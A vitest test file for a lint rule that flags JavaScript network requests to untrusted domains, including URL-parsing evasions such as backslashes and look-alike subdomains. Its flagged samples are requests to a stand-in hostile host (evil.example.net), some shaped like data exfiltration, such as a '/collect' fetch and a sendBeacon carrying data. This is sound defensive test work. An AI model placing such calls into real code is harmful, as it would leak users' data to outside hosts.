// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the strings are JavaScript sources under test.
import { describe, expect, it } from 'vitest';
import { hits } from './test-helpers';

const trusted = {
  trustedDomains: ['https://api.example.com', 'wss://rt.example.com', 'https://ws.example.com'],
};
const flagged = (code: string) => hits(code, 'no-untrusted-request', trusted);

describe('no-untrusted-request', () => {
  it.each([
    "fetch('https://evil.example.net/collect')",
    "fetch('//evil.example.net/collect')",
    "fetch('http://api.example.com/x')",
    "fetch('https://api.example.com:8443/x')",
    "window.fetch('https://evil.example.net')",
    "const API = 'https://evil.example.net'; fetch(API + '/x')",
    'fetch(`https://evil.example.net/${id}`)',
    "new Request('https://evil.example.net')",
    "new WebSocket('wss://evil.example.net/ws')",
    "new WebSocket('ws://rt.example.com/ws')",
    "new EventSource('https://evil.example.net/sse')",
    "navigator.sendBeacon('https://evil.example.net/b', data)",
    "const x = new XMLHttpRequest(); x.open('POST', 'https://evil.example.net/x')",
    "new XMLHttpRequest().open('GET', 'https://evil.example.net/x')",
    "fetch('https://API.EXAMPLE.COM.evil.net/x')",
    "fetch(new URL('https://evil.example.net/x'))",
    "fetch(new URL('/x', 'https://evil.example.net'))",
    // Slashes and backslashes as a browser reads them on an https page.
    "fetch('https:\\\\evil.example.net/x')",
    "fetch('https:/evil.example.net/x')",
    "fetch('///evil.example.net/x')",
    "fetch('http:evil.example.net/x')",
  ])('flags %s', (code) => {
    expect(flagged(code)).toHaveLength(1);
  });

  it.each([
    "fetch('https://api.example.com/v1/items')",
    "fetch('https://API.example.com:443/v1')",
    "fetch('/api/items')",
    "fetch('api/items')",
    'fetch(url)',
    "fetch('https://' + host + '/x')",
    "fetch(base + '/x')",
    "new WebSocket('wss://rt.example.com/ws')",
    "new WebSocket('wss://ws.example.com/ws')",
    "new WebSocket('wss://api.example.com/ws')",
    "fetch('https://connect.tiktok-minis.com/drama/sdk.js')",
    "window.open('https://evil.example.net')",
    "other.open('GET', 'https://evil.example.net')",
    "const s = 'https://evil.example.net'; log(s)",
    "fetch('data:text/plain,hi')",
    "fetch(new URL('/x', location.href))",
    "fetch(new URL('/x', 'https://api.example.com'))",
    "fetch('https:api/items')",
    "fetch('https:/api.example.com/x')",
  ])('does not flag %s', (code) => {
    expect(flagged(code)).toEqual([]);
  });

  it('trusts nothing but the SDK host without trusted domains', () => {
    expect(hits("fetch('https://api.example.com/x')", 'no-untrusted-request')).toEqual(['1:1']);
  });
});
